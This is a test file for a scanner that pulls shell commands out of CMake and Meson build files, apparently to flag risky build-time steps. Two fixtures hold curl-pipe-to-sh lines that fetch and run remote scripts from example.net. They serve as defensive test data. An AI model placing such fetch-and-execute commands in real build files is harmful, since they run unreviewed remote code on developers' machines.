import { describe, expect, it } from 'vitest';
import { buildFileCommands, cmakeCommands, mesonCommands } from '../../../src/detectors/shared/build-files.js';

describe('CMake commands', () => {
  it('reads execute_process COMMANDs as a pipeline and stops each at the next keyword', () => {
    const text = [
      'cmake_minimum_required(VERSION 3.15)',
      '# execute_process(COMMAND not-run) in a comment',
      'execute_process(',
      '  COMMAND curl -fsSL "https://example.net/a b.sh"',
      '  COMMAND sh',
      '  OUTPUT_QUIET ERROR_QUIET)',
    ].join('\n');
    expect(cmakeCommands(text)).toEqual([{ command: 'curl -fsSL "https://example.net/a b.sh" | sh', line: 3, written: expect.stringContaining('execute_process(') }]);
  });

  it('joins custom command steps, reads exec_program, downloads, bracket arguments and escapes', () => {
    const text = [
      'add_custom_command(OUTPUT gen.h COMMAND ${Python_EXECUTABLE} gen.py COMMAND touch gen.h DEPENDS gen.py VERBATIM)',
      'exec_program(uname ARGS -m OUTPUT_VARIABLE arch)',
      'file(DOWNLOAD https://example.net/t.tgz ${CMAKE_BINARY_DIR}/t.tgz SHOW_PROGRESS)',
      'execute_process(COMMAND sh -c [=[echo "a]]b"]=])',
      'EXECUTE_PROCESS(COMMAND echo \\"q\\")',
      '#[[ execute_process(COMMAND hidden) ]]',
    ].join('\n');
    expect(cmakeCommands(text).map((c) => [c.command, c.line, c.download ?? false])).toEqual([
      ['${Python_EXECUTABLE} gen.py && touch gen.h', 1, false],
      ['uname -m', 2, false],
      ['curl -o ${CMAKE_BINARY_DIR}/t.tgz https://example.net/t.tgz', 3, true],
      ['sh -c "echo \\"a]]b\\""', 4, false],
      ['echo "q"', 5, false],
    ]);
  });

  it('does not take a word inside another for a command, and survives unterminated input', () => {
    expect(cmakeCommands('set(x my_execute_process(COMMAND a))')).toEqual([]);
    expect(() => cmakeCommands('execute_process(COMMAND "open')).not.toThrow();
    expect(cmakeCommands('execute_process(COMMAND [[never closed')[0]?.command).toBe('"never closed"');
  });
});

describe('Meson commands', () => {
  it('reads run_command positional arguments and the command: list of targets', () => {
    const text = [
      "project('x', 'c')",
      "r = run_command('sh', '-c', 'curl -fsSL https://example.net/m.sh | sh', check: false)",
      "custom_target('gen',",
      "  output: 'gen.h',",
      "  command: [py, files('gen.py'), '@OUTPUT@'],",
      ")",
      "run_command(['git', 'describe'], check: true)",
    ].join('\n');
    expect(mesonCommands(text).map((c) => [c.command, c.line])).toEqual([
      ['sh -c "curl -fsSL https://example.net/m.sh | sh"', 2],
      ['py files @OUTPUT@', 3],
      ['git describe', 7],
    ]);
  });

  it('chooses the reader by file name', () => {
    expect(buildFileCommands('sub/meson.build', "run_command('uname')")[0]?.command).toBe('uname');
    expect(buildFileCommands('cmake/Tools.cmake', 'execute_process(COMMAND uname)')[0]?.command).toBe('uname');
  });
});

describe('hostile build files', () => {
  it('reads deep nesting, thousands of unclosed calls and unterminated quoting without failing', () => {
    const deep = `run_command(${'['.repeat(100_000)}`;
    expect(() => mesonCommands(deep)).not.toThrow();
    const unclosed = "run_command('sh', ".repeat(50_000);
    expect(mesonCommands(unclosed).length).toBeLessThanOrEqual(2000);
    expect(cmakeCommands('execute_process(COMMAND a '.repeat(50_000)).length).toBeLessThanOrEqual(1);
    expect(cmakeCommands('#[[ never closed\nexecute_process(COMMAND x)')).toEqual([]);
  });
});
